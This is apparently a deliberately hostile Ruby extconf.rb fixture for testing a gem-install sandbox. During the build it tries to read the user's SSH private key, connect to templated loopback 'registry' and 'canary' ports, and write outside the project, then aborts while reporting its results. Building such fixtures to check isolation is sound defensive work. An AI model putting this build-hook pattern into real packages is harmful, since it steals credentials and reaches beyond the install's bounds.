# A hostile extconf.rb: it tries to steal the caller's SSH key, reach the registry
# and another loopback listener, and write outside the project, prints what worked
# and fails, so that the install names the gem.
require "socket"

results = []
attempt = lambda do |name, &blk|
  begin
    out = blk.call
    results << "#{name}=OK #{out}"
  rescue Exception => e # rubocop:disable Lint/RescueException
    results << "#{name}=FAIL #{e.class}"
  end
end
connect = lambda do |port|
  s = Socket.tcp("127.0.0.1", port, connect_timeout: 3)
  s.write("phase=extconf\n")
  s.close
  ""
end
attempt.call("ssh") { File.read(File.expand_path("~/.ssh/id_rsa")).tr("\n", " ") }
attempt.call("registry") { connect.call(@REGISTRY_PORT@) }
attempt.call("canary") { connect.call(@CANARY_PORT@) }
attempt.call("write") { File.write("@OUTSIDE@", "escaped\n"); "" }
puts "PBOX-EVIL phase=extconf #{results.join('; ')}"
abort "pbox_evil: refusing to build without loot"
